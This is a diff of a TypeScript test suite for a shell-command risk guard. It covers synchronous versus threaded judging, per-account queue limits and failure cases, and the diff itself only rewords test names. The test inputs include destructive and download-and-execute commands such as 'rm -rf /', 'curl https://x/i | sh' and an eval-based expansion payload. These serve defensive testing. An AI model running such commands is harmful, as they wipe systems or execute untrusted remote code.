@@ -24,20 +24,20 @@ const long = `${'true;'.repeat(300)}rm -rf /`
 
 describe('a command that is short and simple', () => {
   test.each(['ls', 'rm -rf /', 'curl https://x/i | sh', 'sudo systemctl restart nginx && df -h'])(
-    'is judged on the spot when it is %s',
+    'is judged in the calling thread when it is %s',
     (command) => {
       expect(new BoundedGuard(thread()).judge({ command }, 'ann')).not.toBeInstanceOf(Promise)
     },
   )
 
-  test('is not judged on the spot when it takes more work than its length tells', () => {
+  test('is not judged in the calling thread when it takes more work than its length suggests', () => {
     expect(quickVerdict({ command: `${'a=$a$a;'.repeat(60)}eval "$a"` })).toBeUndefined()
     expect(quickVerdict({ command: 'true;'.repeat(60) })).toBeUndefined()
   })
 })
 
-describe('a command that takes long', () => {
-  test('gets the same verdict and the same analysis from the thread', async () => {
+describe('a command that takes long to judge', () => {
+  test('gets the same verdict and the same analysis from a thread', async () => {
     const guard = new BoundedGuard(thread())
     const verdict = guard.judge({ command: long }, 'ann')
     expect(verdict).toBeInstanceOf(Promise)
@@ -65,7 +65,7 @@ describe('a command that takes long', () => {
     expect(await guard.analyze(long, {}, 'ann')).toMatchObject({ validation: { risk_level: 'unknown' } })
   })
 
-  test('is unknown when too many wait, by account and in all', async () => {
+  test('is unknown when too many wait, by account and in total', async () => {
     const guard = new BoundedGuard(thread({ waitingPerAccount: 2, waiting: 3 }))
     const asked = ['ann', 'ann', 'ann', 'bob', 'bob'].map((account) =>
       Promise.resolve(guard.judge({ command: long }, account)).then(({ risk_level }) => risk_level),
@@ -73,7 +73,7 @@ describe('a command that takes long', () => {
     expect(await Promise.all(asked)).toEqual(['high', 'high', 'unknown', 'high', 'unknown'])
   })
 
-  test('is taken in turns by account', async () => {
+  test('is judged in turns among accounts', async () => {
     const guard = new BoundedGuard(thread({ waitingPerAccount: 9 }))
     const order: string[] = []
     const ask = async (account: string, name: string) => {
@@ -84,7 +84,7 @@ describe('a command that takes long', () => {
     expect(order.indexOf('b1')).toBeLessThan(order.indexOf('a3'))
   })
 
-  test('is unknown when the thread cannot be started, and when the guard is closed', async () => {
+  test('is unknown when the thread cannot be started or the guard is closed', async () => {
     const worker = thread({ module: new URL('data:text/javascript,throw new Error("no")') })
     const guard = new BoundedGuard(worker)
     expect(await guard.judge({ command: long }, 'ann')).toMatchObject({ risk_level: 'unknown' })
